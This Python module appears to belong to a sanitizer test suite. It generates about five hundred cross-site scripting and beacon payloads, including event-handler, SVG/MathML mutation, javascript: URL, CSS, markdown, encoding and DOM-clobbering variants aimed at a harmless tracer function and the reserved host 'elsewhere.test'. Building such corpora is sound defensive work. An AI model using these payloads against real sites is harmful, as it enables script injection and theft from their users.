"""Five hundred texts that would run a script, or call a foreign host, if a page took them for HTML.

They are made, not collected: each class below crosses ways in (elements, contexts, schemes) with
spellings (case, blanks, quotes, encodings). `JS` and `URL` are filled with the payload's number,
so that a hit can be traced: a script calls `__ran(number)`, a request goes to `p<number>.` of
`HOST`. That they do run where nothing escapes them is measured by `benchmarks.torture.payloads`.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from html import escape
from itertools import cycle
from urllib.parse import quote

HOST = "elsewhere.test"
"""A host that nobody can have (RFC 2606); every address of a payload lies below it."""

JS, URL = "\ue000", "\ue001"
IMAGE = f"<img src=x onerror={JS}>"
SCRIPT = f"<script>{JS}</script>"
BEACON = f"<img src={URL}>"


@dataclass(frozen=True)
class Payload:
    """One text, the class it belongs to, and the number it shows when it runs."""

    number: int
    kind: str
    text: str


def made() -> tuple[Payload, ...]:
    """Return all payloads, numbered from 1 in the order of their classes."""
    found: dict[str, str] = {}
    for kind, texts in CLASSES.items():
        for text in texts():
            found.setdefault(text, kind)
    return tuple(
        Payload(number, kind, filled(text, number))
        for number, (text, kind) in enumerate(found.items(), 1)
    )


def filled(text: str, number: int) -> str:
    """Put a payload's number where its script and its address stand."""
    return text.replace(JS, f"__ran({number})").replace(URL, f"//p{number}.{HOST}/{number}")


def one_of_each() -> tuple[Payload, ...]:
    """Return the first payload of each class."""
    first: dict[str, Payload] = {}
    for payload in PAYLOADS:
        first.setdefault(payload.kind, payload)
    return tuple(first.values())


def references(text: str, form: str) -> str:
    """Write every character as a reference, e.g. `form="&#x{:x};"`; the marks stay."""
    return "".join(c if c in (JS, URL) else form.format(ord(c)) for c in text)


def scripts() -> Iterator[str]:
    for name in ("script", "SCRIPT", "ScRiPt"):
        for gap in ("", " ", "/", "\t", "\n", "\f", " x=y", "/x"):
            yield f"<{name}{gap}>{JS}</{name}{gap}>"
    yield from (
        f"<script src={URL}></script>",
        f"<script src='data:text/javascript,{JS}'></script>",
        f"<script type=module>{JS}</script>",
        f'<script type="module" src="data:text/javascript,{JS}"></script>',
        f"<script>{JS}",
        f"<script><!--\n{JS}\n--></script>",
        f"<scr<script>ipt>{JS}</scr</script>ipt>{SCRIPT}",
        f"<<script>{JS}//<</script>",
        f"<script async defer src={URL} integrity=x crossorigin></script>",
        f"<script>import({URL!r})</script>",
        f"<script>new Worker('data:text/javascript,fetch(\"http:{URL}\")')</script>",
    )


ELEMENTS = (
    "a abbr acronym address applet area article aside audio b bdi bdo big blink blockquote br "
    "button canvas center cite code command content data datalist dd del details dfn dialog dir "
    "div dl dt em embed fieldset figcaption figure font footer form h1 h6 header hgroup hr i img "
    "input ins kbd keygen label legend li main map mark marquee menu menuitem meter nav nobr "
    "object ol output p picture pre progress q rp rt ruby s samp search section select shadow "
    "slot small source span strike strong sub summary sup svg table textarea time track tt u ul "
    "var video wbr xmp x-own"
).split()
EVENTS = "mouseover click focus pointerenter focusin mousemove pointerdown mouseenter".split()


def handlers() -> Iterator[str]:
    """Every element kind with a handler; quotes and what parts the attributes take turns."""
    ways = cycle(zip(EVENTS, (" ", "/", "\n", "\t", "\f", " ", "\r", "  "), strict=True))
    quotes = cycle(("", '"', "'"))
    for element, (event, gap), q in zip(ELEMENTS, ways, quotes):
        yield f"<{element}{gap}tabindex=0{gap}on{event}={q}{JS}{q}>pass over me</{element}>"


def handlers_alone() -> Iterator[str]:
    """Handlers that need nobody: the page's own loading sets them off."""
    for name in ("img", "IMG", "ImG"):
        for gap, equals in ((" ", "="), ("/", " = "), ("\n", "=\n"), ("\t", "\t=")):
            yield f"<{name}{gap}src{equals}x{gap}onerror{equals}{JS}>"
    for q in ('"', "'"):
        yield f"<img src={q}x{q}onerror={q}{JS}{q}>"
    yield from (
        f"<body onload={JS}>", f"<body onpageshow={JS}>", f"<svg onload={JS}>",
        f"<svg/onload={JS}//", f"<iframe onload={JS}></iframe>",
        f"<style onload={JS}></style>", f"<link rel=stylesheet href=data:, onload={JS}>",
        f"<video><source onerror={JS}></video>", f"<audio src=x onerror={JS}></audio>",
        f"<video src=x onloadstart={JS}></video>", f"<object data=data:x, onload={JS}></object>",
        f"<input autofocus onfocus={JS}>", f"<select autofocus onfocus={JS}></select>",
        f"<textarea autofocus onfocus={JS}></textarea>", f"<b tabindex=0 autofocus onfocus={JS}>",
        f"<details open ontoggle={JS}>x</details>", f"<marquee onstart={JS}>x</marquee>",
        f"<marquee loop=1 width=0 onfinish={JS}>x</marquee>", f"<embed src=data:, onload={JS}>",
        f"<style>@keyframes k{{}}</style><b style=animation:k onanimationstart={JS}>x</b>",
        f"<b oncontentvisibilityautostatechange={JS} style=display:block;content-visibility:auto>",
        f"<img src=x onerror=&#95;&#95;ran&#40;0&#41;;{JS}>", f"<image src=x onerror={JS}>",
    )  # fmt: skip


def vectors() -> Iterator[str]:
    """SVG, MathML, and markup that changes its meaning when it is parsed a second time."""
    for event in ("begin", "end", "repeat"):
        more = "attributeName=x dur=1ms repeatCount=2"
        yield f"<svg><animate on{event}={JS} {more}></animate></svg>"
    for element in ("set", "animate"):
        to = f"to=javascript:{JS} values=javascript:{JS} begin=0s"
        yield f"<svg><a><{element} attributeName=href {to} /><text y=20>go</text></a></svg>"
    for namespace in ("href", "xlink:href", "XLINK:HREF"):
        yield f"<svg><a {namespace}='javascript:{JS}'><text y=20>go</text></a></svg>"
        yield f"<math><mi {namespace}='javascript:{JS}'>go</mi></math>"
    yield from (
        f"<svg><script>{JS}</script></svg>", f"<svg><script href={URL} /></svg>",
        f"<svg><script>{references('', '')}&#95;_ran(0)&#59;{JS}</script></svg>",
        f"<svg><foreignObject>{IMAGE}</foreignObject></svg>", f"<svg><image href={URL} /></svg>",
        f"<svg><use href={URL}#x /></svg>", f"<svg><style>@import '{URL}';</style></svg>",
        f"<svg><feImage href={URL} /></svg>", f"<svg><desc>{IMAGE}</desc></svg>",
        f"<math><annotation-xml encoding=text/html>{IMAGE}</annotation-xml></math>",
        f"<math href='javascript:{JS}'>go</math>", f"<math><mtext>{IMAGE}</mtext></math>",
        f"<svg></p><style><a id=\"</style>{IMAGE}\">", f"<svg><title><style>{IMAGE}</style>",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{escape(IMAGE)}">',
        f'<form><math><mtext></form><form><mglyph><style></math>{IMAGE}',
        f'<noscript><p title="</noscript>{IMAGE}"></noscript>',
        f'<svg><p><style><g title="</style>{IMAGE}"></svg>', f"<select><style></select>{IMAGE}",
        f"<svg><![CDATA[><{IMAGE[1:]}]]></svg>", f"<table><td>{IMAGE}<svg><td>",
    )  # fmt: skip


def addresses() -> Iterator[str]:
    """Addresses that are no addresses: bare (as a source may be), and as links."""
    run = f"javascript:{JS}"
    spelled = (
        run, f"JaVaScRiPt:{JS}", f" {run}", f"\x01{run}", f"java\tscript:{JS}",
        f"java\nscript:{JS}", f"java\r\nscript:{JS}", f"javascript\t:{JS}", f"javascript&colon;{JS}",
        f"java&Tab;script:{JS}", f"java&NewLine;script&colon;{JS}", f"&#1;{run}", f"&#x20;{run}",
        f"{references('javascript:', '&#{};')}{JS}", f"{references('javascript:', '&#x{:x};')}{JS}",
        f"{references('javascript:', '&#{:07}')}{JS}", f"java%73cript:{JS}",
        f"javascript://example.org/%0a{JS}", f"javascript://%0d%0a{JS}//.html", f"vbscript:{JS}",
        f"data:text/html,{SCRIPT}", f"data:text/html;base64,{quote(SCRIPT)}", f"livescript:{JS}",
        f"data:image/svg+xml,<svg onload={JS} xmlns='http://www.w3.org/2000/svg'/>",
        f"blob:{JS}", f"view-source:{run}", f"feed:{run}", f"jar:{run}!/", f"file:///{run}",
    )  # fmt: skip
    for text in spelled:
        yield text
        yield f'<a href="{text}">go</a>'
    yield from (f"https://a.test/{IMAGE}", f'https://a.test/"><img src=x onerror={JS}>',
                f"https://a.test/?a=b' onmouseover='{JS}", f"//a.test/#{SCRIPT}",
                f"https:javascript:{JS}", f"https://javascript:{JS}@a.test/")  # fmt: skip


def documents() -> Iterator[str]:
    """Elements that turn the whole page: meta, base, forms, frames, objects."""
    for equiv in ("refresh", "REFRESH", "&#114;efresh"):
        for content in (f"0;url=http:{URL}", f"0; URL='http:{URL}'", f"0;{URL}"):
            yield f'<meta http-equiv="{equiv}" content="{content}">'
    yield from (
        f"<base href={URL}/><img src=a>", f"<base target=_top href='javascript:{JS}//'>",
        f"<meta charset=utf-7>+ADw-img src+AD0-x onerror+AD0-{JS}+AD4-",
        f"<meta http-equiv=Link content='<http:{URL}>; rel=stylesheet'>{BEACON}",
        f"<form action={URL}><button>go</button></form>",
        f"<form action='javascript:{JS}'><input type=submit></form>",
        f"<form><button formaction='javascript:{JS}'>go</button></form>",
        f"<form id=f7></form><button form=f7 formaction=javascript:{JS}>go</button>",
        f"<form action={URL} method=post><input type=image src={URL}></form>",
        f"<isindex type=image src={URL} action='javascript:{JS}'>",
        f"<form><input type=submit formaction={URL} formmethod=post></form>",
        f'<iframe srcdoc="{escape(SCRIPT)}"></iframe>', f"<iframe srcdoc='{IMAGE}'></iframe>",
        f"<iframe src='javascript:{JS}'></iframe>", f"<iframe src={URL}></iframe>",
        f"<iframe src='data:text/html,{IMAGE}'></iframe>", f"<fencedframe src={URL}></fencedframe>",
        f'<iframe srcdoc="&lt;script&gt;parent.{JS}&lt;/script&gt;">', f"<portal src={URL}>",
        f"<frameset onload={JS}><frame src={URL}></frameset>",
        f"<object data={URL}></object>", f"<object data='javascript:{JS}'></object>",
        f"<object type=text/html data='data:text/html,{IMAGE}'></object>",
        f"<object><param name=src value={URL}><embed src={URL}></object>",
        f"<embed src={URL}>", f"<embed src='javascript:{JS}'>", f"<applet code={URL}></applet>",
        f"<embed type=image/svg+xml src='data:image/svg+xml,<svg onload={JS}/>'>",
        f"<dialog open><form method=dialog><button onclick={JS}>go</button></form></dialog>",
        f"<button popovertarget=q7>go</button><div popover id=q7 onbeforetoggle={JS}>x</div>",
        f"<button command=--x commandfor=q8>go</button><b id=q8 oncommand={JS}>x</b>",
    )  # fmt: skip


def styles() -> Iterator[str]:
    for css in (
        f"background:url({URL})", f"background-image:image-set('{URL}' 1x)", f"cursor:url({URL}),x",
        f"list-style:url('{URL}');display:list-item", f"border-image:url({URL})",
        f"mask:url({URL}#m)", f"filter:url({URL}#f)", f"clip-path:url({URL}#c)",
        f"width:expression({JS})", f"behavior:url({URL})", f"-moz-binding:url({URL}#x)",
        f"--a:url({URL});background:var(--a)", f"back\\67 round:u\\72l({URL})",
    ):  # fmt: skip
        yield f'<p style="{css}">x</p>'
        yield f"<style>*{{{css}}}</style>"
    yield from (
        f"<style>@import '{URL}';</style>", f"<style>@import url({URL});</style>",
        f"<style>@font-face{{font-family:a;src:url({URL})}}*{{font-family:a}}</style>",
        f"<link rel=stylesheet href={URL}>", f"<link rel='alternate stylesheet' href={URL}>",
        f"<style>p:hover{{background:url({URL})}}</style><p>x</p>",
        f"<style>*::before{{content:url({URL})}}</style>",
        f"<style>@\\69mport '{URL}';</style>", f"<style><!--@import '{URL}';--></style>",
        f"</style><style>@import '{URL}'",
    )  # fmt: skip


def components() -> Iterator[str]:
    yield from (
        f"<template>{IMAGE}</template>{IMAGE}", f"<b><template shadowrootmode=open>{IMAGE}</b>",
        f"<template><script>{JS}</script></template>", f"<slot onslotchange={JS}>x</slot>",
        f"<x-a onclick={JS} tabindex=0>x</x-a>", f"<b is=x-b onfocus={JS} tabindex=0>x</b>",
        f"<x-c><b slot=x onmouseover={JS}>x</b></x-c>",
        f"<b><template shadowrootmode=closed><style>*{{background:url({URL})}}</style>x</template></b>",
    )  # fmt: skip


def breakouts() -> Iterator[str]:
    """Out of elements whose content is text, out of comments, and out of our own elements."""
    ends = (
        "</textarea>", "</title>", "</noscript>", "</style>", "</xmp>", "</iframe>", "</noembed>",
        "</noframes>", "</select>", "</template>", "</mark></p></article>", "</blockquote></div>",
        "</span></summary></details>", "</html></body>", "-->", "--!>", "<!-->", "<!--->", "]]>",
        "<!x>", "<![CDATA[x]]>", "?>", "<?x>", "<%x%>", "<!DOCTYPE x [<!ENTITY a 'b'>]>", "</ x>",
    )  # fmt: skip
    for end in ends:
        yield end + IMAGE
        yield end.upper() + SCRIPT
    yield f"<?xml-stylesheet href={URL}?>{BEACON}"
    yield f"<!--[if true]>{SCRIPT}<![endif]-->{SCRIPT}"


def attributes() -> Iterator[str]:
    """Out of an attribute, with each kind of quote and each thing that might stand before it."""
    for before in ("", "x", "\\", "&quot;", "&#39;", "\x00"):
        for q in ('"', "'", "`", ""):
            yield f"{before}{q} onmouseover={JS} onfocus={JS} tabindex=0 x={q}"
            yield f"{before}{q}>{IMAGE}"


def letters() -> Iterator[str]:
    """Look-alikes, unseen characters, and case mappings that end in ASCII."""
    for left, right in ("＜＞", "‹›", "﹤﹥", "〈〉", "˂˃", "ᐸᐳ"):
        yield f"{left}img src=x onerror={JS}{right}{IMAGE}"
    unseen = "\x00 \u200b \u200d \u2060 \ufeff \u00ad \u202e \u2066 \u061c \u180e \U000e0001".split(" ")
    for char in unseen:
        yield f"<{char}img src=x onerror={JS}>{char}{IMAGE}"
        yield f"<im{char}g src=x one{char}rror={JS}><img{char} src=x onerror={JS}>"
    for blank in "\u00a0\u0085\u2028\u2029\u3000\v":
        yield f"<img{blank}src=x{blank}onerror={JS}>{blank}{IMAGE}"
    yield from (f"<ſcript>{JS}</ſcript>", f"<ſvg onload={JS}>{IMAGE}", f"<ımg src=x onerror={JS}>",
                f"java\u212ascript:{JS}", f"%c0%bcimg src=x onerror={JS}>{IMAGE}",
                f"\u0301{IMAGE}\u0301", f"\U0001f600{IMAGE}\U0001f600")  # fmt: skip


def markdown() -> Iterator[str]:
    yield from (
        f"[go](javascript:{JS})", f"[go](<javascript:{JS}>)", f"[go](java&#115;cript:{JS})",
        f"[go](  javascript:{JS} 'x')", f"[go][r]\n\n[r]: javascript:{JS}", f"<javascript:{JS}>",
        f"![x](http:{URL})", f'![x](x"onerror="{JS})', f"[![x](http:{URL})](javascript:{JS})",
        f"![x][r]\n\n[r]: http:{URL}", f"[x](http:{URL} \"onmouseover='{JS}'\")",
        f"```html\n{IMAGE}\n```\n{IMAGE}", f"`{IMAGE}`", f"> {IMAGE}", f"- {IMAGE}", f"# {IMAGE}",
        f"    {IMAGE}\n\n{IMAGE}", f"**{IMAGE}**", f"| a |\n|---|\n| {IMAGE} |", f"[^1]\n\n[^1]: {IMAGE}",
        f"<div>\n\n{IMAGE}\n\n</div>", f"\\<img src=x onerror={JS}>{IMAGE}", f"*[x]: {IMAGE}",
        f":::html\n{IMAGE}\n:::", f"[x]{{onclick={JS}}}{IMAGE}", f"http:{URL}\"onclick={JS}",
    )  # fmt: skip


def formulas() -> Iterator[str]:
    for left, right in (("$$", "$$"), ("$", "$"), ("\\(", "\\)"), ("\\[", "\\]")):
        yield f"{left}\\href{{javascript:{JS}}}{{go}}{right}"
        yield f"{left}\\text{{{IMAGE}}}{right}"
        yield f"{left}\\includegraphics{{http:{URL}}}{BEACON}{right}"
        yield f"{left}\\htmlStyle{{background:url({URL})}}{{x}}{right}"
        yield f"{left}\\unicode{{{IMAGE}}}\\def\\a{{\\a}}\\a{right}"
    yield from (f"```mermaid\ngraph TD;A-->B[{IMAGE}]\nclick A \"javascript:{JS}\"\n```",
                f"\\begin{{html}}{IMAGE}\\end{{html}}")  # fmt: skip


def entities() -> Iterator[str]:
    """Escaped once, twice, or in another alphabet: for whoever unescapes once too often."""
    for text in (IMAGE, SCRIPT):
        once = escape(text)
        yield from (
            once, escape(once), escape(escape(once)), quote(text, safe=JS), quote(quote(text, safe=JS), safe=JS),
            once.replace(";", ""), once.upper().replace(JS.upper(), JS), references(text, "&#{};"),
            references(text, "&#x{:X};"), references(text, "&#{:07}"), references(text, "\\u{:04x}"),
            references(text, "\\x{:02x}"), references(text, "\\{:o}"), references(text, "%u{:04x}"),
            text.replace("<", "+ADw-").replace(">", "+AD4-"), text.replace("<", "&LT;").replace(">", "&GT;"),
            text.replace("<", "&lt"), text.replace("<", "\\x3c"), text.replace("<", "&nvlt;"),
        )  # fmt: skip


def strings() -> Iterator[str]:
    """Out of JSON, and out of strings and templates inside a script."""
    for before in ("", '"', "'", "`", '"}', '"]}', "\\", '\\"', "*/", "\u2028", "<!--"):
        yield f"{before}</script>{SCRIPT}"
    for q in ('"', "'", "`"):
        yield from (f"{q}-{JS}-{q}", f"{q};{JS};//", f"\\{q};{JS};//", f"{q}+{JS}+{q}")
    yield from (f"${{{JS}}}", f"{{{{{JS}}}}}", f"<%= {JS} %>", f"#{{{JS}}}", f"[[${{{JS}}}]]",
                f"{{% raw %}}{IMAGE}{{% endraw %}}", f"{{{{constructor.constructor('{JS}')()}}}}",
                f"{{@html '{IMAGE}'}}", f"</SCRIPT/x>{SCRIPT}", f"<!--<script>{SCRIPT}")  # fmt: skip


def prototypes() -> Iterator[str]:
    for key in ("__proto__", "constructor.prototype", "constructor[prototype]", "prototype"):
        yield f'{{"{key}":{{"innerHTML":"{IMAGE}","onerror":"{JS}"}}}}'
        yield f"?{key}[innerHTML]={IMAGE}&{key}[src]={URL}"
        yield f"{key}[srcdoc]={SCRIPT}"
    yield from (f'{{"toString":"{JS}","valueOf":"{JS}"}}{IMAGE}', f"__proto__{IMAGE}",
                f"hasOwnProperty{SCRIPT}", f'{{"role":"assistant","content":"{IMAGE}"}}')  # fmt: skip


def queries() -> Iterator[str]:
    for start in ("?q=", "#", "#:~:text=", "?__theme=dark", "?view=api&x=", "?s=0&e=4&ps=", "?theme=",
                  "../", "?v=", "?deep_link=", ";/%2e%2e/", "?lang=en"):  # fmt: skip
        yield f'{start}"><img src=x onerror={JS}>'
    yield from (f"?q=javascript:{JS}{IMAGE}", f"#javascript:{JS}{SCRIPT}")


def clobbering() -> Iterator[str]:
    names = "gradio_config hl q-frame q-panel q-chat q-box q-live __ran body getElementById rows list"
    for name in names.split():
        yield f"<a id={name} name={name} href={URL}></a><a id={name} name=src href={URL}>{BEACON}</a>"
        yield f"<form id={name} name={name} action={URL}><input name=action>{BEACON}</form>"
    yield f'<meta name="q-words" content=\'{{"newTab":"x"}}\'>{BEACON}'
    yield f"<iframe name=q-frame srcdoc='{SCRIPT}'></iframe>"


def long_ones() -> Iterator[str]:
    for filler in ("A", "<", "&", '"', "<b>", "&amp;", " ", "\n", "</p>", "<!--", "é", "\u202e"):
        yield filler * (6_000 // len(filler)) + IMAGE
    yield f"<img src=x {'a=b ' * 2_000}onerror={JS}>"


def remote() -> Iterator[str]:
    yield from (
        f"<img src={URL}>", f"<img srcset='{URL} 2x'>", f"<picture><source srcset={URL}><img></picture>",
        f"<video poster={URL}></video>", f"<video src={URL} autoplay></video>", f"<audio src={URL}>",
        f"<video autoplay><track default src={URL}></video>", f"<body background={URL}>",
        f"<table background={URL}><td>x</table>", f"<input type=image src={URL}>",
        f"<img lowsrc={URL} dynsrc={URL} src=http:{URL}>", f"<bgsound src={URL}>",
        f"<a href=# ping={URL}>go</a>", f"<img src=x attributionsrc={URL}>", f"<image src={URL}>",
        f"<html manifest={URL}>{BEACON}", f"<img loading=lazy src={URL}>", f"<menuitem icon={URL}>",
    )  # fmt: skip
    for rel in ("prefetch preconnect dns-prefetch modulepreload icon manifest prerender pingback "
                "apple-touch-icon compression-dictionary").split():  # fmt: skip
        yield f"<link rel={rel} href=http:{URL}>"
    for kind in ("image", "script", "style", "font"):
        yield f"<link rel=preload as={kind} href={URL} crossorigin>"
    rules = f'{{"prefetch":[{{"source":"list","urls":["http:{URL}"]}}]}}'
    yield f"<script type=speculationrules>{rules}</script>"


CLASSES: dict[str, Callable[[], Iterable[str]]] = {
    "script elements": scripts,
    "handlers on every element": handlers,
    "handlers that start alone": handlers_alone,
    "svg, math and mutation": vectors,
    "addresses": addresses,
    "meta, base, forms, frames, objects": documents,
    "styles": styles,
    "templates and own elements": components,
    "out of elements and comments": breakouts,
    "out of attributes": attributes,
    "look-alikes and unseen characters": letters,
    "markdown": markdown,
    "formulas": formulas,
    "entities, once too often": entities,
    "out of scripts and templates": strings,
    "prototype keys": prototypes,
    "queries and fragments": queries,
    "clobbering": clobbering,
    "very long": long_ones,
    "remote images, hints and beacons": remote,
}

PAYLOADS: tuple[Payload, ...] = made()
